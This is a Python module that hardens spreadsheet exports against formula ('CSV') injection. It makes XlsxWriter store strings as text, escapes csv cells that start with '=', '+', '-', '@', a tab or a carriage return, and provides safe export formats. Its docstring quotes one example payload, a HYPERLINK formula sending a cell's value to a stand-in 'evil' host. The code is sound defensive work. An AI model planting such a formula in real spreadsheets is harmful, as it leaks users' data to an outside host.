"""Spreadsheets we write: text stays text (no formula injection, OWASP "CSV injection").

A provider named ``=HYPERLINK("http://evil/?"&A1,"Open")`` must come out of a protocol
as those characters, not as a live formula. One place decides how:

- xlsx written with XlsxWriter: ``new_workbook`` switches off XlsxWriter's guessing
  (``strings_to_formulas``, ``strings_to_urls``, ``strings_to_numbers``), so ``write`` and
  ``write_row`` store every ``str`` with ``write_string``; ``write_cells`` writes a row by
  type (text, number, Decimal, date, bool, empty).
- csv: ``neutral_text`` prefixes a cell that starts with ``= + - @``, a tab or a carriage
  return with an apostrophe, so a spreadsheet shows it as text.
- the admin's import-export downloads: ``SafeCSV`` and ``SafeXLSX`` formats.
The streaming exports (``osms.exports.xlsx``) write inline strings, never formulas, and
their csv path uses ``FORMULA_START`` from here.
"""

import datetime
import io
from decimal import Decimal

import xlsxwriter
from import_export.formats import base_formats

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_SAFE_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False,
                 "strings_to_numbers": False}


def new_workbook(target, options=None):
    """An XlsxWriter workbook that never turns a string into a formula, link or number."""
    return xlsxwriter.Workbook(target, {**(options or {}), **_SAFE_OPTIONS})


def write_cells(sheet, row, col, values, cell_format=None):
    """Write one row by value type: text with ``write_string`` whatever it starts with."""
    for offset, value in enumerate(values):
        at = (row, col + offset)
        if value is None or value == "":
            sheet.write_blank(*at, None, cell_format)
        elif isinstance(value, bool):
            sheet.write_boolean(*at, value, cell_format)
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(*at, float(value), cell_format)
        elif isinstance(value, datetime.datetime | datetime.date):
            sheet.write_string(*at, value.isoformat(), cell_format)
        else:
            sheet.write_string(*at, str(value), cell_format)


def neutral_text(value):
    """A csv cell a spreadsheet will not run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeCSV(base_formats.CSV):
    """import-export's csv, with text cells neutralised on export."""

    def export_data(self, dataset, **kwargs):
        dataset = _mapped(dataset, neutral_text)
        return super().export_data(dataset, **kwargs)


class SafeXLSX(base_formats.XLSX):
    """import-export's xlsx, written by XlsxWriter with text as text (tablib's openpyxl
    writer stores a string starting with ``=`` as a formula)."""

    def export_data(self, dataset, **kwargs):
        buffer = io.BytesIO()
        book = new_workbook(buffer, {"in_memory": True})
        sheet = book.add_worksheet((dataset.title or "Sheet1")[:31])
        bold = book.add_format({"bold": True})
        if dataset.headers:
            write_cells(sheet, 0, 0, [str(h) for h in dataset.headers], bold)
        start = 1 if dataset.headers else 0
        for index, row in enumerate(dataset, start=start):
            write_cells(sheet, index, 0, [_plain(v) for v in row])
        book.close()
        return buffer.getvalue()


def _plain(value):
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    return value


def _mapped(dataset, function):
    import tablib

    copy = tablib.Dataset(headers=dataset.headers, title=dataset.title)
    for row in dataset:
        copy.append([function(value) for value in row])
    return copy
